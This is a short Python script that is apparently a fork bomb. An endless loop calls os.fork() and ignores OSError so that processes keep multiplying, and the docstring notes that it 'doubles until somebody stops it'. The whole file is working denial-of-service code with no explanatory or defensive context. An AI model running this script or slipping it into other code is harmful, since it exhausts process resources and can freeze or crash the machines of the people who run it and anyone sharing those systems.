"""Doubles until somebody stops it."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
